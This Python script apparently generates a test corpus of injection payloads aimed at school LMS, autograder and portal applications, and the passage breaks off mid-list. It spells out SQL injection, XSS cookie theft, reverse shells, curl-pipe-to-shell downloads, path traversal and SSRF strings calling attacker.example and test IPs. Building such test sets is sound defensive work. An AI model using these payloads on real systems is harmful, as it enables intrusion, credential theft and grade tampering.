"""Attack held-out corpus for the education theme (ha29).

Each value is a payload that works against a vulnerable LMS / homework / quiz /
autograder / parent-portal / admissions application that places the value
where its class says: concatenated into SQL, a shell line, a file path, a
fetched URL, a server-side template or evaluator, HTML without escaping, a log
line / HTTP header / mail header, or an LDAP filter / XPath query. Payloads are
written by hand, mostly dressed in course codes, file names, math answers and
form text. A few small templates combine hand-written pools. Output:
attacks.jsonl next to this file.
"""
import json
import random
from pathlib import Path

SEED = 2902

# Each entry: (class, value). Class = <context>-<technique>[+<encoding>].

# ---------------------------------------------------------------- SQL injection
SQLI = [
    # course search: ... WHERE code = '<v>'
    ("sql-string-union", "CS-101' UNION SELECT netid, password_hash FROM accounts-- "),
    ("sql-string-union-schema", "MATH 2xx' UNION ALL SELECT NULL, NULL, table_name FROM information_schema.tables-- -"),
    ("sql-string-tautology", "BIO 140' OR 'x'='x"),
    ("sql-string-union-version", "Intro to Databases' AND 1=2 UNION SELECT 1,@@version,3#"),
    ("sql-string-concat-subquery", "CHEM-110L'||(SELECT password FROM users WHERE role='registrar' LIMIT 1)||'"),
    ("sql-string-error-floor-rand", "ENGL 205' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT password FROM users LIMIT 1),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- "),
    ("sql-string-error-extractvalue", "HIST 101' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- "),
    ("sql-string-error-cast", "STAT 2' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)-- "),
    ("sql-string-blind-time-if", "CS 3410' AND IF(ASCII(SUBSTRING((SELECT password FROM users WHERE id=1),1,1))>77,SLEEP(4),0)-- "),
    ("sql-string-time-waitfor", "PHYS 1A'; WAITFOR DELAY '0:0:6'-- "),
    ("sql-string-time-pgsleep", "ART-120' AND 7=(SELECT 7 FROM pg_sleep(5))-- "),
    ("sql-string-heavy-randomblob", "ECON 101' AND randomblob(500000000) IS NOT NULL-- "),
    ("sql-string-blind-sqlite-master", "MUS 120' AND substr((SELECT sql FROM sqlite_master WHERE type='table' LIMIT 1),1,1)='C'-- "),
    ("sql-string-stacked-insert", "SE 350'; INSERT INTO staff(netid, role) VALUES ('jlo23','admin');-- "),
    ("sql-string-stacked-update", "IT-240'; UPDATE grades SET letter='A' WHERE student_id='2024-00871';-- "),
    ("sql-string-stacked-xpcmdshell", "CS-101'; EXEC master..xp_cmdshell 'whoami';-- "),
    ("sql-string-stacked-copy-program", "MATH 221'; COPY (SELECT '') TO PROGRAM 'curl -s http://attacker.example/x | sh';-- "),
    ("sql-string-union-load-file", "BIO 140' UNION SELECT load_file('/etc/passwd'),2,3-- "),
    ("sql-string-union-outfile", "CS-101' UNION SELECT '<?php system($_GET[0]); ?>',2 INTO OUTFILE '/var/www/html/uploads/n.php'-- "),
    ("sql-string-oob-unc", "HIST 101'; DECLARE @h varchar(99)=(SELECT TOP 1 password FROM users); EXEC('master..xp_dirtree \"\\\\'+@h+'.attacker.example\\a\"');-- "),
    ("sql-string-oracle-pipe", "STAT 2' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('q',6)-- "),
    ("sql-string-oracle-error", "ECON 101' AND 1=utl_inaddr.get_host_name((SELECT banner FROM v$version WHERE rownum=1))-- "),
    ("sql-string-boolean-length", "CS-101' AND LENGTH((SELECT password FROM users WHERE netid='prof_lee'))>12 AND 'a'='a"),
    # numeric student id / quiz id
    ("sql-numeric-tautology", "2024 OR 1=1"),
    ("sql-numeric-union", "1871 UNION SELECT name, ssn FROM students"),
    ("sql-numeric-blind-like", "3 AND 1=(SELECT COUNT(*) FROM users WHERE netid='admin' AND password LIKE 'a%')"),
    ("sql-numeric-time-sleep", "4821 AND SLEEP(5)"),
    ("sql-numeric-stacked-pgsleep", "7;SELECT pg_sleep(5)"),
    ("sql-numeric-stacked-drop", "42; DROP TABLE quiz_attempts--"),
    ("sql-numeric-subquery-arith", "12-(SELECT CASE WHEN (SELECT COUNT(*) FROM staff WHERE role='admin')>0 THEN 0 ELSE 1 END)"),
    ("sql-numeric-having-probe", "5 GROUP BY id HAVING 1=1--"),
    ("sql-numeric-error-convert", "9 AND 1=CONVERT(int,(SELECT TOP 1 netid+':'+password FROM staff))"),
    # ORDER BY column (gradebook sort)
    ("sql-orderby-case-blind", "(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE netid='prof_lee')='a' THEN last_name ELSE first_name END)"),
    ("sql-orderby-if-time", "IF((SELECT COUNT(*) FROM staff)>3,SLEEP(5),score)"),
    ("sql-orderby-error-div", "score, (SELECT CASE WHEN (1=1) THEN 1/0 ELSE 1 END)"),
    ("sql-orderby-stacked", "score DESC; DROP TABLE grades--"),
    ("sql-orderby-rand-boolean", "rand((SELECT ascii(substring(password,1,1)) FROM users LIMIT 1)>100)"),
    # LIKE student lookup: ... LIKE '%<v>%'
    ("sql-like-union", "O'Br%' UNION SELECT email, password FROM users WHERE '%'='"),
    ("sql-like-tautology", "Nguy%' OR 1=1 OR name LIKE '"),
    ("sql-like-escape-union", "D\\' UNION SELECT netid,password FROM accounts-- "),
    # INSERT VALUES (quiz answer / essay submission)
    ("sql-insert-subquery", "x^2 + 3x - 4 = 0', (SELECT password FROM users WHERE netid='prof_lee'))-- "),
    ("sql-insert-extra-row", "42', 'jlo23'), (3, '100', 'jlo23')-- "),
    ("sql-insert-error-updatexml", "My essay is about resilience.' AND updatexml(1,concat(0x2e,(SELECT password FROM users LIMIT 1)),1) AND '"),
    # UPDATE SET comment = '<v>'
    ("sql-update-column-overwrite", "Great work!', score=100, letter='A+' WHERE '1'='1'-- "),
    ("sql-update-where-widen", "see office hours' WHERE 1=1; UPDATE users SET role='instructor' WHERE netid='jlo23'-- "),
    # JSON/XML body fields reaching SQL
    ("sql-json-string-union", "{\"course\": \"CS-101' UNION SELECT api_key, 1 FROM integrations-- \", \"term\": \"F24\"}"),
    ("sql-math-answer-union", "1/3' UNION SELECT answer_key, NULL FROM quiz_keys WHERE quiz_id=4-- "),
    ("sql-filename-stacked", "hw3_final(2).py'); DELETE FROM submissions WHERE ('1'='1"),
    ("sql-grade-string-tautology", "B+/A-' OR grade IS NOT NULL-- "),
    ("sql-name-apostrophe-union", "Siobhán O'Sullivan' UNION SELECT ssn, dob FROM applicants-- "),
    ("sql-string-sqlite-attach", "CS-101'; ATTACH DATABASE '/var/www/html/s.php' AS p; CREATE TABLE p.t (c text); INSERT INTO p.t VALUES ('<?php system($_GET[1]); ?>');-- "),
    ("sql-string-mysql-hex-literal", "MATH 221' UNION SELECT 1, password FROM users WHERE netid=0x70726f665f6c6565-- "),
    ("sql-string-char-function", "BIO 140' UNION SELECT 1, password FROM users WHERE netid=CHAR(97,100,109,105,110)-- "),
    ("sql-string-backslash-comment", "CS-101' AND 1=1 UNION SELECT user(), database()#"),
    # encodings
    ("sql-string-union+url", "CS-101%27%20UNION%20SELECT%20netid%2Cpassword_hash%20FROM%20accounts--%20"),
    ("sql-string-tautology+double-url", "MATH%25202xx%2527%2520OR%25201%253D1--%2520"),
    ("sql-string-union+comment-space+case", "BIO'/**/UnIoN/**/SeLeCt/**/password,2/**/FrOm/**/users--"),
    ("sql-string-union+versioned-comment", "CS-101'/*!50000UNION*//*!50000SELECT*/netid,password FROM accounts-- -"),
    ("sql-json-string-tautology+unicode-escape", "{\"course\": \"CS-101\\u0027 OR \\u00271\\u0027=\\u00271\"}"),
    ("sql-numeric-union+newline-space", "1871\nUNION\nSELECT\nname,\nssn\nFROM\nstudents"),
    ("sql-string-time+case", "PhYs 1A' aNd SlEeP(5)-- "),
    # plain
    ("plain-comment-truncation", "admin'-- "),
    ("plain-tautology", "' OR 1=1 LIMIT 1-- -"),
    ("plain-column-probe", "1' ORDER BY 7-- "),
    ("plain-union-null", "' UNION SELECT NULL,NULL,NULL-- "),
    ("plain-stacked-drop", "'; DROP TABLE students;--"),
    ("plain-double-quote-tautology", "\" OR \"\"=\""),
    ("plain-time-sleep", "' AND SLEEP(10)#"),
    ("plain-numeric-tautology", "1 OR 1=1"),
    ("plain-string-tautology-comment", "' OR 'a'='a' --"),
    ("plain-paren-tautology", "') OR ('1'='1"),
    ("plain-stacked-waitfor", "1; WAITFOR DELAY '0:0:5'--"),
    ("sql-string-time+url", "CS-101%27%20AND%20SLEEP%285%29--%20"),
    ("sql-string-tautology+url-tab", "MATH 221'%09OR%091=1--%09"),
]

SQL_PREFIX = ["CS-101", "MATH 221", "Lab 4", "hw3.py", "Week 9", "A-", "Jamie O", "quiz 7", "F24", "PHYS 1A"]
SQL_TAILS = [
    "' UNION SELECT student_id, grade FROM grades WHERE term='F24'-- ",
    "' AND (SELECT COUNT(*) FROM users)>0 AND 'q'='q",
    "' OR EXISTS(SELECT 1 FROM staff WHERE role='admin')-- ",
    "'; SELECT pg_sleep(4)-- ",
    "' AND ascii(substr((SELECT password FROM users LIMIT 1),2,1))=101-- ",
    "' UNION SELECT email, reset_token FROM accounts-- ",
]


def tpl_sqli(rng):
    return "sql-string-templated", rng.choice(SQL_PREFIX) + rng.choice(SQL_TAILS)


# ---------------------------------------------------------------- XSS
XSS = [
    ("html-body-script-exfil", "Great question! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("html-body-img-onerror", "See my graph: <img src=x onerror=\"new Image().src='//attacker.example/?c='+document.cookie\">"),
    ("html-body-svg-onload", "Answer: x = 5 <svg onload=alert(document.domain)>"),
    ("html-body-details-ontoggle", "<details open ontoggle=alert(1)><summary>Show my work</summary>2x + 5 = 17</details>"),
    ("html-body-iframe-srcdoc", "Week 3 notes <iframe srcdoc=\"<script>parent.alert(document.cookie)</script>\"></iframe>"),
    ("html-body-body-onpageshow", "<body onpageshow=alert(1)>"),
    ("html-body-anchor-javascript", "Solutions here: <a href=\"javascript:alert(document.cookie)\">hw3_solutions.pdf</a>"),
    ("html-body-input-autofocus", "Quiz feedback <input autofocus onfocus=alert(1)>"),
    ("html-body-video-source-onerror", "<video><source onerror=\"alert('hw')\"></video>"),
    ("html-body-form-phish", "Session expired. <form action=\"https://attacker.example/login\" method=post><input name=netid placeholder=NetID><input name=pw type=password placeholder=\"LMS password\"><button>Sign in</button></form>"),
    ("html-body-meta-refresh", "Syllabus moved <meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/lms-login\">"),
    ("html-body-object-data-uri", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("html-body-base-hijack", "<base href=\"https://attacker.example/\">Reading list below"),
    ("html-body-marquee-onstart", "<marquee onstart=alert(1)>Congrats to the robotics team!</marquee>"),
    ("html-body-select-autofocus", "Pick your section: <select autofocus onfocus=alert(document.cookie)><option>002</option></select>"),
    ("html-body-textarea-autofocus", "<textarea autofocus onfocus=\"location='//attacker.example/?'+document.cookie\">essay draft</textarea>"),
    ("html-body-audio-onerror", "<audio src onerror=alert(1)>"),
    ("html-body-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>"),
    ("html-body-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Answer key</text></a></svg>"),
    ("html-body-iframe-javascript", "<iframe src=\"javascript:alert(document.domain)\"></iframe>"),
    ("html-body-dynamic-import", "<img src=1 onerror=\"import('//attacker.example/p.js')\">"),
    ("html-body-noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>"),
    ("html-body-style-import", "<style>@import 'https://attacker.example/steal.css';</style>My notes"),
    ("html-body-script-src", "Nice slides!<script src=//attacker.example/x.js></script>"),
    ("html-body-eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("html-body-keylogger", "<script>document.onkeypress=e=>fetch('//attacker.example/k?'+e.key)</script>"),
    ("html-body-svg-foreignobject", "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>"),
    ("html-body-table-background", "<table><tr><td><img src=x onerror=alert('grades')></td></tr></table>"),
    ("html-body-button-formaction", "<form><button formaction=javascript:alert(1)>Submit quiz</button></form>"),
    ("html-body-embed-svg", "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>\">"),
    # attribute value="<v>"
    ("html-attr-doublequote-onmouseover", "Jamie\" onmouseover=\"alert(1)"),
    ("html-attr-autofocus-exfil", "\" autofocus onfocus=\"fetch('//attacker.example/'+localStorage.token)\" x=\""),
    ("html-attr-break-out-script", "O'Neil\"><script>alert(document.cookie)</script>"),
    ("html-attr-singlequote-break", "x' onpointerover='alert(1)"),
    ("html-attr-style-overlay", "x\" style=\"position:fixed;inset:0;z-index:9999\" onclick=\"alert(1)"),
    ("html-attr-unquoted-handler", "A- onfocus=alert(1) autofocus"),
    ("html-attr-title-breakout", "Re: Week 9\"><svg/onload=alert(1)>"),
    # inline JS string: var studentName = '<v>';
    ("js-string-break-semicolon", "O'Brien';alert(document.cookie);//"),
    ("js-string-backslash-escape", "\\';alert(1);//"),
    ("js-string-close-script", "Emma</script><script>alert(1)</script>"),
    ("js-string-template-literal", "${alert(document.domain)}"),
    ("js-string-arith-concat", "'-alert(1)-'"),
    ("js-json-island-close", "{\"name\": \"</script><img src=x onerror=alert(1)>\"}"),
    # URL / href fields (personal website, reading-list link)
    ("url-href-javascript", "javascript:alert(document.cookie)"),
    ("url-href-javascript-comment-newline", "javascript://lms.school.example/%0aalert(1)"),
    ("url-href-data-html", "data:text/html,<script>alert(document.domain)</script>"),
    ("url-href-javascript-void-fetch", "javascript:void(fetch('//attacker.example/?c='+document.cookie))"),
    # markdown rendered by the forum
    ("markdown-link-javascript", "I posted my approach [here](javascript:alert(1)) -- no code!"),
    ("markdown-image-attr-break", "![graph of f(x)](x\" onerror=\"alert(1))"),
    ("markdown-raw-html", "**Solution outline**\n\n<img src=x onerror=alert(document.cookie)>\n\n1. sort\n2. two pointers"),
    ("markdown-reference-link-javascript", "See [the proof][p].\n\n[p]: javascript:alert(1)"),
    # MathJax / LaTeX rendered client side
    ("mathjax-href-javascript", "$\\href{javascript:alert(1)}{\\text{see proof}}$"),
    ("mathjax-unicode-html", "$$\\unicode{<img src=1 onerror=alert(1)>}$$"),
    ("latex-html-class-break", "\\(\\class{x\" onmouseover=\"alert(1)}{x^2}\\)"),
    # client-side template engines (AngularJS / Vue)
    ("angularjs-expression-constructor", "{{constructor.constructor('alert(1)')()}}"),
    ("vue-template-constructor", "{{_c.constructor('alert(document.domain)')()}}"),
    ("angularjs-orderby-sandbox", "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}"),
    # uploads rendered inline
    ("svg-upload-script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script><text y=\"20\">Figure 1</text></svg>"),
    ("filename-display-img", "hw3<img src=x onerror=alert(1)>.py"),
    ("filename-display-svg", "lab4\"><svg onload=alert(1)>.pdf"),
    # encodings
    ("html-body-script+url", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("html-body-img+double-url", "%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    ("html-body-img+html-entity-decoded", "&lt;img src=x onerror=alert(1)&gt;"),
    ("html-attr-handler+html-entity", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("html-body-script+unicode-escape", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("html-body-script+case", "<ScRiPt>alert(1)</sCrIpT>"),
    ("url-href-javascript+case", "JaVaScRiPt:alert(1)"),
    ("url-href-javascript+tab-entity", "java&#x09;script:alert(1)"),
    ("url-href-javascript+colon-entity", "javascript&colon;alert(document.cookie)"),
    # plain
    ("plain-script-tag", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg/onload=alert(1)>"),
    ("plain-attr-break", "\"><script>alert(1)</script>"),
    ("plain-body-onload", "<body onload=alert(1)>"),
    ("plain-javascript-url", "javascript:alert(1)"),
    ("plain-singlequote-img", "'><img src=x onerror=alert(1)>"),
    ("html-body-svg+url", "%3Csvg%20onload%3Dalert(1)%3E"),
    ("url-href-javascript+html-entity-decimal", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">notes</a>"),
]

XSS_PREFIX = ["Thanks prof! ", "Re: HW5 Q2 ", "Week 12 recap ", "Answer: x = -4 or x = 1 ", "Study group Wed 7pm ", "Jamie O'Neil "]
XSS_VECTORS = [
    "<img src=/ onerror=alert(document.cookie)>",
    "<svg><set onbegin=alert(1) attributeName=x to=1>",
    "<div onpointerenter=alert(1) style=padding:200px>hover</div>",
    "<a href=jav&#x61;script:alert(1)>slides</a>",
    "<iframe src=//attacker.example/lms.html width=100% height=600>",
    "<img src=x onerror=this.src='//attacker.example/?'+document.cookie>",
]


def tpl_xss(rng):
    return "html-body-templated", rng.choice(XSS_PREFIX) + rng.choice(XSS_VECTORS)


# ---------------------------------------------------------------- command injection
CMDI = [
    # autograder: gcc -o out <filename> / python3 <filename>
    ("shell-arg-semicolon", "hw3.py; cat /etc/passwd"),
    ("shell-arg-and-pipe-sh", "hw3.py && curl -s http://attacker.example/s.sh | sh"),
    ("shell-arg-pipe-netcat", "hw3.py | nc 203.0.113.7 4444 -e /bin/sh"),
    ("shell-arg-dollar-paren", "main.c $(id)"),
    ("shell-arg-backtick", "lab4`whoami`.c"),
    ("shell-arg-or-wget", "essay.docx || wget -qO- http://198.51.100.23/x | bash"),
    ("shell-arg-newline", "hw2.c\nrm -rf ~/graded"),
    ("shell-arg-python-reverse", "solution.py; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.9\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("shell-arg-bash-devtcp", "a.py;bash -i >& /dev/tcp/203.0.113.9/443 0>&1"),
    ("shell-arg-ifs", "hw.py;cat${IFS}/etc/shadow"),
    ("shell-arg-brace-expansion", "Lab5.java;{cat,/srv/grader/solutions/lab5.java}"),
    ("shell-arg-quote-split", "hw1.c;c''at /et''c/pas''swd"),
    ("shell-arg-glob-path", "x.py;/???/c?t /???/p?ss??"),
    ("shell-arg-ansi-c-quote", "x.py;$'\\x63\\x61\\x74' /etc/passwd"),
    ("shell-arg-redirect-read", "hw5.py $(</srv/autograder/tokens.txt)"),
    ("shell-arg-background-curl", "hw6.c & curl -d @/etc/passwd http://attacker.example/u &"),
    ("shell-arg-process-substitution", "main.py <(curl -s attacker.example/in.txt)"),
    ("shell-arg-base64-pipe", "hw.py;echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3Auc2ggfCBzaA==|base64 -d|sh"),
    ("shell-arg-sleep-blind", "quiz7.py; sleep 7 #"),
    ("shell-arg-ping-blind", "lab3.c || ping -c 10 127.0.0.1 ||"),
    ("shell-arg-dns-exfil", "hw2.py;nslookup $(whoami).attacker.example"),
    ("shell-arg-write-webroot", "proj.zip; echo '<?php system($_GET[c]); ?>' > /var/www/lms/public/x.php"),
    ("shell-arg-crontab", "hw9.py; (crontab -l; echo '* * * * * curl attacker.example/c|sh') | crontab -"),
    ("shell-arg-ssh-key", "final.py; mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3Nza-fake-key attacker' >> ~/.ssh/authorized_keys"),
    # inside single quotes: python3 '<v>'
    ("shell-squote-break", "x'; id; echo '"),
    ("shell-squote-subshell", "hw1'$(curl attacker.example/$(whoami))'"),
    # inside double quotes: gcc "<v>"
    ("shell-dquote-break", "\"; cat /srv/grader/keys/*; \""),
    ("shell-dquote-expansion", "$(cat /srv/autograder/solutions/hw5.py)"),
    ("shell-dquote-backtick", "report`uname -a`.pdf"),
    # compiler / run flags field
    ("shell-flags-extra-command", "-O2 -Wall; curl attacker.example/p.sh | sh"),
    ("shell-flags-gcc-wrapper", "-wrapper /bin/sh,-c,id"),
    ("shell-flags-python-c", "-c \"import os; os.system('id')\""),
    # networking lab: ping <host>
    ("shell-host-semicolon", "8.8.8.8; ls -la /"),
    ("shell-host-pipe", "127.0.0.1 | id"),
    ("shell-host-subshell-sleep", "1.1.1.1$(sleep${IFS}10)"),
    ("shell-host-newline", "lms.school.example\ncat /etc/hostname"),
    # git clone <repo url> (argument injection)
    ("git-arg-upload-pack", "--upload-pack=touch /tmp/pwned"),
    ("git-arg-ext-transport", "ext::sh -c touch% /tmp/pwned"),
    ("git-arg-config-sshcommand", "-c core.sshCommand='sh -c id' git@git.school.example:cs101/starter.git"),
    # tar / zip invoked with wildcard in submission dir
    ("tar-wildcard-checkpoint", "--checkpoint-action=exec=sh shell.sh"),
    ("zip-arg-test-command", "-T -TT=sh -c 'id>/tmp/o' x.zip"),
    # LaTeX compiled with shell escape (essay / math pdf export)
    ("latex-write18", "\\immediate\\write18{curl http://attacker.example/$(whoami)}"),
    ("latex-input-pipe", "\\input|\"id > /tmp/o\" "),
    ("latex-write18-in-math", "Answer: $x^2$ \\immediate\\write18{cat /etc/passwd | nc 203.0.113.7 80}"),
    # image conversion of profile picture (MVG)
    ("imagemagick-mvg-delegate", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.jpg\"|id \")'\npop graphic-context"),
    # mail() with parent email (sendmail argument injection)
    ("sendmail-arg-log-file", "parent@mail.example -X/var/www/html/log.php"),
    ("sendmail-arg-config", "x@mail.example -OQueueDirectory=/tmp -C/tmp/evil.cf"),
    # Windows lab machines
    ("cmd-arg-ampersand", "report.docx & type C:\\Windows\\win.ini"),
    ("cmd-arg-powershell", "hw.py | powershell -nop -c \"iwr http://attacker.example/a.ps1|iex\""),
    ("cmd-arg-comspec", "lab2.cpp && %COMSPEC% /c dir C:\\Users"),
    ("cmd-arg-certutil", "x.txt & certutil -urlcache -f http://198.51.100.23/p.exe %TEMP%\\p.exe"),
    # pandoc / converter filename
    ("shell-arg-find-exec", "essay.md -o out.pdf; find / -name '*.env' -exec cat {} \\;"),
    # encodings
    ("shell-arg-semicolon+url", "hw3.py%3B%20cat%20%2Fetc%2Fpasswd"),
    ("shell-host-newline+url", "example.org%0Aid"),
    ("shell-arg-and+double-url", "lab1.c%2526%2526whoami"),
    ("shell-arg-subshell+url", "main.py%24%28id%29"),
    ("shell-arg-hex-printf", "hw.py;$(printf '\\x69\\x64')"),
    # plain
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-passwd", "| cat /etc/passwd"),
    ("plain-subshell", "$(whoami)"),
    ("plain-backtick", "`id`"),
    ("plain-and-uname", "&& uname -a"),
    ("plain-semicolon-sleep", "; sleep 10"),
    ("plain-or-id", "|| id"),
    ("plain-newline-id", "\nid"),
    ("plain-subshell-curl", "$(curl attacker.example)"),
    ("shell-arg-newline+url", "hw1.py%0Acat%20/etc/passwd"),
    ("shell-arg-semicolon+var-slice", "lab2.c;cat ${HOME:0:1}etc${HOME:0:1}passwd"),
]

CMD_FILES = ["hw1.py", "lab2.c", "proj_final.zip", "Main.java", "quiz3_answers.txt", "essay(2).docx", "hw3_final(2).py"]
CMD_SEPS = [";", "&&", "||", "|", "\n", "$(", "`"]
CMD_CMDS = ["id", "cat /etc/passwd", "curl http://attacker.example/r|sh", "wget -qO- 198.51.100.23/s|sh", "ls /srv/grader", "sleep 9"]


def tpl_cmdi(rng):
    f, sep, cmd = rng.choice(CMD_FILES), rng.choice(CMD_SEPS), rng.choice(CMD_CMDS)
    if sep == "$(":
        return "shell-arg-subshell-templated", f"{f}$({cmd})"
    if sep == "`":
        return "shell-arg-backtick-templated", f"{f}`{cmd}`"
    return "shell-arg-separator-templated", f"{f}{sep} {cmd}"


# ---------------------------------------------------------------- path traversal
TRAVERSAL = [
    ("path-file-dotdot", "hw3/../../../../etc/shadow"),
    ("path-file-dotdot-starter", "../starter/../../../home/grader/.ssh/id_rsa"),
    ("path-file-proc-environ", "starter/../../../../proc/self/environ"),
    ("path-file-proc-cwd-env", "../../../../proc/self/cwd/.env"),
    ("path-file-nested-strip", "....//....//....//etc/passwd"),
    ("path-file-backslash", "..\\..\\..\\windows\\win.ini"),
    ("path-file-absolute", "/var/www/lms/config/database.yml"),
    ("path-file-absolute-root", "/root/.bash_history"),
    ("path-file-null-byte", "../../../etc/passwd%00.pdf"),
    ("path-file-other-student", "submissions/2024-00871/../2024-00872/hw3.py"),
    ("path-file-suffix-dotdot", "hw3_final(2).py/../../../../etc/passwd"),
    ("path-file-tilde-user", "~grader/.bash_history"),
    ("path-file-tilde-dotdot", "~/../../etc/passwd"),
    ("path-file-mixed-separators", "..\\../..\\../etc/passwd"),
    ("path-file-double-slash", "..//..//..//..//etc//passwd"),
    ("path-file-dot-segments", "./././../../../../etc/group"),
    ("path-file-windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("path-file-windows-dotdot-webconfig", "..\\..\\inetpub\\wwwroot\\web.config"),
    ("path-file-solutions", "../../../../srv/autograder/solutions/hw5.py"),
    ("path-file-git-config", "../../.git/config"),
    ("path-file-ssh-host-key", "../../../../../../etc/ssh/ssh_host_ed25519_key"),
    ("path-tomcat-semicolon", "..;/WEB-INF/web.xml"),
    ("path-tomcat-semicolon-admin", "/courses/..;/manager/html"),
    ("path-php-filter", "php://filter/convert.base64-encode/resource=../config.php"),
    ("path-php-filter-chain", "php://filter/read=string.rot13/resource=/var/www/lms/.env"),
    ("path-template-include", "../../templates/admin/grades_export.html"),
    ("path-file-prefix-check-bypass", "/var/www/lms/locale/../../../../etc/passwd"),
    # zip slip: archive entry names in uploaded submission
    ("zip-entry-dotdot-webroot", "../../../../var/www/lms/public/shell.php"),
    ("zip-entry-dotdot-windows", "..\\..\\..\\inetpub\\wwwroot\\x.aspx"),
    ("zip-entry-dotdot-cron", "hw4/../../../../etc/cron.d/grader"),
    ("zip-entry-absolute", "/home/grader/.bashrc"),
    # LaTeX file reads (server-side PDF export of homework)
    ("latex-input-absolute", "\\input{/etc/passwd}"),
    ("latex-lstinputlisting", "Solution: \\lstinputlisting{/srv/grader/solutions/hw5.py}"),
    ("latex-verbatiminput", "\\verbatiminput{../../../../etc/hosts}"),
    ("latex-openin-read", "\\newread\\f \\openin\\f=/etc/passwd \\read\\f to\\l \\l \\closein\\f"),
    ("latex-include-dotdot", "$x^2$ \\include{../../../../home/grader/notes}"),
    # encodings
    ("path-file-dotdot+url", "..%2F..%2F..%2Fetc%2Fpasswd"),
    ("path-file-dotdot+double-url", "..%252f..%252f..%252fetc%252fpasswd"),
    ("path-file-dotdot+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("path-file-backslash+overlong-utf8", "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("path-file-dotdot+iis-unicode", "%u002e%u002e/%u002e%u002e/etc/passwd"),
    ("path-file-backslash+url", "..%5c..%5c..%5cweb.config"),
    ("path-file-dots+url-full", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    # plain
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("plain-absolute-shadow", "/etc/shadow"),
    ("plain-windows-win-ini", "..\\..\\..\\..\\windows\\win.ini"),
    ("plain-dotdot-hosts", "../../../etc/hosts"),
    ("plain-windows-sam", "..\\..\\..\\..\\Windows\\System32\\config\\SAM"),
    ("path-file-dotdot+overlong-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
]

TR_PREFIX = ["submissions/", "hw3/", "starter/", "uploads/2024-fall/", "week5/", ""]
TR_TARGETS = ["etc/passwd", "etc/hosts", "proc/self/environ", "srv/autograder/config.yml", "var/www/lms/.env", "home/grader/.ssh/id_rsa"]
TR_SEPS = ["../", "..%2f", "..%252f", "....//", "..\\"]


def tpl_traversal(rng):
    sep = rng.choice(TR_SEPS)
    depth = rng.randint(3, 7)
    enc = {"..%2f": "+url", "..%252f": "+double-url"}.get(sep, "")
    return "path-file-dotdot-templated" + enc, rng.choice(TR_PREFIX) + sep * depth + rng.choice(TR_TARGETS)


# ---------------------------------------------------------------- SSRF
SSRF = [
    ("url-fetch-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("url-fetch-aws-userdata", "http://169.254.169.254/latest/user-data"),
    ("url-fetch-aws-ipv6-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("url-fetch-alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("url-fetch-localhost-admin", "http://127.0.0.1:8080/admin/grades/export?format=csv"),
    ("url-fetch-localhost-name", "http://localhost:5000/internal/reset_password?netid=prof_lee"),
    ("url-fetch-gopher-redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/www/html%0D%0ACONFIG%20SET%20dbfilename%20s.php%0D%0ASET%20k%20%22%3C%3Fphp%20system(%24_GET%5B0%5D)%3B%3F%3E%22%0D%0ASAVE%0D%0A"),
    ("url-fetch-gopher-smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM:%3Cregistrar@school.example%3E%0D%0ARCPT%20TO:%3Cstudent@mail.example%3E%0D%0ADATA%0D%0ASubject:%20Grade%20update%0D%0A%0D%0Ahttps://attacker.example/r%0D%0A.%0D%0A"),
    ("url-fetch-dict-memcached", "dict://127.0.0.1:11211/stats"),
    ("url-fetch-file-scheme", "file:///etc/passwd"),
    ("url-fetch-file-scheme-host", "file://localhost/srv/autograder/config.yml"),
    ("url-fetch-java-netdoc", "netdoc:///etc/passwd"),
